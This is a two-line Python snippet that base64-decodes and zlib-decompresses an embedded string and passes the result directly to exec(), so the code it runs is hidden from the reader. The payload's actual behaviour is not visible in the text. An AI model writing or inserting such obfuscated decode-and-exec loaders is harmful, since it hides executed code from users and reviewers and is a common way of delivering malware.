
import zlib, base64
exec(zlib.decompress(base64.b64decode("eJwFwcEKgDAIANB7XyE71cXd+xtZwgaKMi0a9PG9N9RtJlhsFhgrknUv7Z4CPdPPWvkZgvySujA20+q0xOjC6PBB9HL8Rr4YEA==")))
